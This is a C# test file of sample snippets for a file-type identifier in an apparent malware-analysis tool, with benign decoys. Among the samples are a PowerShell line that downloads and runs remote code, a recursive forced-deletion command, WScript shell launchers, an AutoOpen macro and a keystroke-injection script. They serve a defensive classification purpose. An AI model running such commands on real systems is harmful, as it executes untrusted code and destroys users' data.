namespace Lazaret.Dispatch.Tests.Identification;

/// <summary>A text of each type that script rules tell.</summary>
internal static class ScriptSamples
{
    /// <summary>Types, texts, and whether the heuristics that stand in for libyara must know them too.</summary>
    public static IReadOnlyList<(string Type, string Text, bool Common)> All { get; } =
    [
        ("code/javascript", "var a = [1, 2];\nfunction run(x) {\n  return document.getElementById(x).innerHTML;\n}\nrun('a');\n", true),
        ("code/javascript", "const fs = require('fs');\nmodule.exports = { read: (x) => { return fs.readFileSync(x); } };\n", true),
        ("code/javascript", "!function(e,t){if(e===t){return typeof e}window.x=1}(1,2);", false),
        ("code/jscript", "var shell = new ActiveXObject(\"WScript.Shell\");\nshell.Run('calc');\n", false),
        ("code/vbs", "Dim shell\nSet shell = CreateObject(\"WScript.Shell\")\nshell.Run \"calc\"\n", true),
        ("code/vbs", "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n  MsgBox \"hi\"\r\nEnd Sub\r\n", true),
        ("code/ps1", "$client = New-Object System.Net.WebClient\n$text = $client.DownloadString('http://example.org')\nInvoke-Expression $text\n", true),
        ("code/ps1", "Get-ChildItem -Path C:\\ -Recurse | Where-Object { $_.Length -gt 5 } | Remove-Item -Force\n", true),
        ("code/batch", "set A=1\r\nif exist %A% goto end\r\ndel /q %A%\r\n:end\r\n", true),
        ("code/python", "import os\nimport sys\n\ndef main(a):\n    print(os.getcwd())\n\nif __name__ == '__main__':\n    main(1)\n", true),
        ("code/python", "from os import path\nclass A(object):\n    def run(self):\n        return path.join('a', 'b')\n", true),
        ("code/ruby", "require 'json'\nclass Reader\n  attr_reader :name\n  def read(x)\n    x.each do |y|\n      puts y\n    end\n  end\nend\n", false),
        ("code/perl", "use strict;\nuse warnings;\nmy %h = (a => 1);\nsub run {\n  my $x = shift;\n  return $x =~ m/a/;\n}\n", false),
        ("code/php", "<?php\n$x = $_GET['a'];\necho base64_decode($x);\n", true),
        ("code/html", "<!doctype html>\n<html><head><title>x</title></head><body><p>hi</p></body></html>\n", true),
        ("code/html", "  <body onload=\"x()\"><script>var a = 1; function f() { return document.cookie; }</script></body>\n", false),
        ("code/hta", "<html><head><hta:application id=\"a\" border=\"none\"></head><body><script language=\"VBScript\">MsgBox 1</script></body></html>\n", true),
        ("code/html/component", "<public:component>\n<public:attach event=\"onload\" onevent=\"f()\"/>\n<script>function f() { }</script>\n</public:component>\n", false),
        ("code/wsf", "<job id=\"a\"><script language=\"JScript\">WScript.Echo('a');</script></job>\n", false),
        ("code/wsc", "<component>\n<registration progid=\"a.b\" version=\"1\"/>\n<public><method name=\"f\"/></public>\n<script language=\"JScript\">function f() { }</script>\n</component>\n", false),
        ("code/xml", "<?xml version=\"1.0\"?>\n<a><b>c</b></a>\n", true),
        ("code/xml", "<project xmlns=\"http://example.org/p\"><a/></project>\n", true),
        ("code/xfa", "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template/></xdp:xdp>\n", false),
        ("code/clickonce", "<?xml version=\"1.0\"?>\n<asmv1:assembly xmlns=\"urn:schemas-microsoft-com:asm.v2\" xmlns:c=\"urn:schemas-microsoft-com:clickonce.v1\"><deployment install=\"true\"/></asmv1:assembly>\n", false),
        ("code/jsp", "<%@ page language=\"java\" import=\"java.io.*\" %>\n<html><body><% out.print(1); %></body></html>\n", false),
        ("code/css", "body { color: red; margin: 0 }\n.a:hover { background: #fff; font-size: 12px; }\n#b { display: none; }\n", false),
        ("text/json", "{\n  \"name\": \"x\",\n  \"list\": [1, 2, {\"a\": null}]\n}\n", true),
        ("code/java", "package org.example.a;\n\nimport java.util.List;\n\npublic class A extends B {\n  public static void main(String[] args) { }\n}\n", true),
        ("code/csharp", "using System;\nusing System.IO;\n\nnamespace A.B\n{\n    public class C { public int D { get; set; } }\n}\n", true),
        ("code/c", "#include <stdio.h>\n\nint main(int argc, char **argv)\n{\n    printf(\"hi\");\n    return 0;\n}\n", true),
        ("code/h", "#ifndef A_B_H\n#define A_B_H\n\nstruct a { int b; };\nint f(struct a *x);\n\n#endif\n", false),
        ("code/idl", "import \"unknwn.idl\";\n[object, uuid(01234567-89ab-cdef-0123-456789abcdef)]\ninterface IA : IUnknown {\n  HRESULT F([in] long x);\n};\n", false),
        ("code/glsl", "#version 330 core\nuniform mat4 m;\nin vec3 p;\nvoid main() { gl_Position = m * vec4(p, 1.0); }\n", false),
        ("code/protobuf", "syntax = \"proto3\";\nmessage A {\n  string name = 1;\n  repeated int32 ids = 2;\n}\n", false),
        ("code/go", "package main\n\nimport \"fmt\"\n\nfunc main() {\n\tx := 1\n\tfmt.Println(x)\n}\n", false),
        ("code/rust", "use std::io;\n\n#[derive(Debug)]\nstruct A;\n\nfn main() {\n    let mut x = 1;\n    println!(\"{}\", x);\n}\n", false),
        ("code/lisp", "; a comment\n(defun f (x) (let ((y 1)) (+ x y)))\n(setq z 2)\n", false),
        ("code/sql", "CREATE TABLE a (id INT);\nINSERT INTO a VALUES (1);\nSELECT id FROM a WHERE id = 1;\n", false),
        ("code/markdown", "# Title\n\nSome **bold words** and a [link](https://example.org).\n\n- one\n- two\n\n## More\n\n```sh\nls\n```\n", false),
        ("code/ducky", "REM hi\nDELAY 1000\nGUI r\nDELAY 500\nSTRING cmd\nENTER\n", false),
        ("code/au3", "#NoTrayIcon\n#include <File.au3>\nLocal $a = 1\nFunc Run1()\n  Return 1\nEndFunc\n", false),
        ("code/a3x", "\u00A3\u0048\u004B\u00BEAU3!EA06\0\0\0", false),
        ("document/ps", "junk\n%!PS-Adobe-3.0\n%%BoundingBox: 0 0 1 1\nshowpage\n", false),
        ("document/email", "Message-ID: <1@example.org>\nDate: Mon, 1 Jan 2024 00:00:00 +0000\nFrom: a@example.org\nTo: b@example.org\nSubject: hi\n\nhello\n", true),
        ("log/vipermonkey", "vmonkey 1.0\nPARSING VBA CODE:\nTRACING VBA CODE (entrypoint = Auto*):\nRecorded Actions:\n", false),
    ];

    /// <summary>Texts that are none of it.</summary>
    public static IReadOnlyList<string> Plain { get; } =
    [
        "This is some test text data.\n",
        "abjklsdjfklasdfklasdlkflksadfjklslkdjfwenuircvuecnn",
        "gg\n",
        "A non-android file.\n",
        "The quick brown fox jumps over the lazy dog. VGhlIHF1aWNrIGJyb3duIGZveA==\n",
        "Dear reader,\n\nlet us set out what we found: if the function of the class is to select from a table, then update it. Else, end.\n\nFrom here on, import is key.\n",
        "a,b,c\n1,2,3\n4,5,6\n",
        "2024-01-01 12:00:00 INFO started worker=1 path=/a/b\n2024-01-01 12:00:01 WARN slow: 5 ms\n",
        new string('A', 346),
        @"X5O!P%@AP[4\PZX54(P^)7CC)7}$EI" + "CAR-STAN" + "DARD-ANTI" + "VIRUS-TEST-FILE!$H+H*",
    ];
}
